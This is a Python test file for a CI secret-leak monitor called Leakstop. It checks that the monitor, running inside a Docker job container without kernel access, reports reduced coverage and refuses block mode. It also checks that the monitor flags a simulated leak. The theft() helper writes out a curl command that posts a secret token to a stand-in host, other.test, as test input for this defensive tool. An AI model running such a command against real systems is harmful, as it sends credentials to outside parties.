# SPDX-License-Identifier: MIT
"""The action in a job container, without access to the kernel of the machine below it.

The runner is played: for each phase it calls ``docker exec`` with the step's environment, as for
a job with `container:`. So the step's parent is out of sight, as it is there.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import psutil
import pytest

from e2e.acting import ROOT
from lab import Lab, tokens
from lab.docker import Docker
from lab.tokens import Token

pytestmark = [pytest.mark.root, pytest.mark.docker]

UNSUPPORTED = 4
_STATE = re.compile(r"(?ms)^(\w+)<<(\S+)\n(.*?)\n\2$")
_FILES = ("GITHUB_STATE", "GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY")


@dataclass
class Job:
    """A job in a container, whose steps are `docker exec`."""

    docker: Docker
    directory: Path
    """Seen at the same place inside."""
    inputs: Mapping[str, str] = field(default_factory=dict)
    secret: Token = field(default_factory=tokens.npm)
    said: dict[str, str] = field(default_factory=dict)
    """By phase."""
    codes: dict[str, int] = field(default_factory=dict)
    summary: str = ""

    def phases(self, *phases: str) -> None:
        """Run these phases of the action's step."""
        for phase in phases:
            state = (self.directory / "GITHUB_STATE").read_text()
            environ = {f"STATE_{name}": value for name, _, value in _STATE.findall(state)}
            environ |= {f"INPUT_{name.upper()}": value for name, value in self.inputs.items()}
            environ |= {name: str(self.directory / name) for name in _FILES}
            environ |= {"RUNNER_TEMP": str(self.directory), "GITHUB_JOB": "build"}
            script = self.directory / "agent/hook" / f"{phase}.js"
            words = [f"--env={name}={value}" for name, value in environ.items()]
            done = self.docker.execute("job", ["node", script], options=words)
            said = f"{done.stdout}{done.stderr}".splitlines(keepends=True)
            self.said[phase] = "".join(line for line in said if "::add-mask::" not in line)
            self.codes[phase] = done.returncode
        self.summary = (self.directory / "GITHUB_STEP_SUMMARY").read_text()

    def step(self, command: str) -> str:
        """Run a step of somebody's."""
        return self.docker.execute("job", ["sh", "-c", command]).stdout


@pytest.fixture(scope="module")
def docker() -> Iterator[Docker]:
    with Lab() as lab, Docker(lab) as made:
        yield made


@pytest.fixture
def job(docker: Docker, tmp_path: Path) -> Iterator[Job]:
    for part in ("agent", "policies"):
        shutil.copytree(ROOT / part, tmp_path / part)
    # A release brings psutil along (docs/adr/0006); nothing can be fetched here.
    vendor = tmp_path / "agent" / "vendor" / "psutil"
    shutil.copytree(Path(psutil.__file__).parent, vendor)
    for name in _FILES:
        (tmp_path / name).touch()
    docker.start(["sleep", "600"], options=["--name=job", f"--volume={tmp_path}:{tmp_path}"])
    yield Job(docker, tmp_path)
    docker.do("rm", "--force", "job")


def theft(job: Job) -> str:
    """A step that posts a secret; its command line is there for long enough to be seen."""
    return job.step(f"curl -sS --limit-rate 9 -d {job.secret.value} http://other.test/")


def test_audit_watches_with_reduced_coverage_and_says_so_first(job: Job) -> None:
    job.inputs = {"allow": "http://other.test"}
    job.phases("pre", "main")
    assert job.said["main"].startswith("leakstop: Partly watched: Reduced coverage: ")
    assert "(the machine's kernel is out of reach)" in job.said["main"].splitlines()[0]
    assert job.step("curl -sS http://other.test/; sleep 0.5") == "ok\n"
    job.phases("post")
    assert job.codes == {"pre": 0, "main": 0, "post": 0}
    first, second, *_ = job.said["post"].splitlines()
    assert first == "Leakstop · build: only partly watched"
    assert second.startswith("Partly watched (audit mode) · the machine's kernel is out of reach")
    assert "::warning title=Leakstop%3A only partly watched::" in job.said["post"]
    assert job.summary.splitlines()[0] == "### Leakstop · `build`: only partly watched"


def test_a_leak_does_not_hide_that_coverage_was_reduced(job: Job) -> None:
    job.inputs = {"secrets": f"{job.secret.name}={job.secret.value}"}
    job.phases("pre", "main")
    assert theft(job) == "ok\n", "nothing can be stopped here"
    job.phases("post")
    first = "Leakstop · build: a secret left, only partly watched"
    assert job.said["post"].splitlines()[0] == first
    assert job.codes["post"] == 1


def test_block_is_refused(job: Job) -> None:
    job.inputs = {"mode": "block"}
    job.phases("pre", "main")
    assert job.codes["main"] == UNSUPPORTED
    assert "error: the machine's kernel is out of reach" in job.said["main"]
    assert "as in a container without privileges (docker)" in job.said["main"]
    assert "::error title=Leakstop%3A this machine is unsupported::" in job.said["main"]


def test_block_that_accepts_less_only_watches(job: Job) -> None:
    job.inputs = {"policy": "version: 1\nmode: block\non-unsupported: audit\n"}
    job.phases("pre", "main")
    assert job.codes["main"] == 0
    assert job.said["main"].startswith("leakstop: Partly watched: Reduced coverage: ")
    assert job.step("curl -sS http://other.test/") == "ok\n"
    job.phases("post")
    assert job.codes["post"] == 0
    assert job.said["post"].splitlines()[0] == "Leakstop · build: only partly watched"
    assert "::warning" not in job.said["post"], "it was asked for"
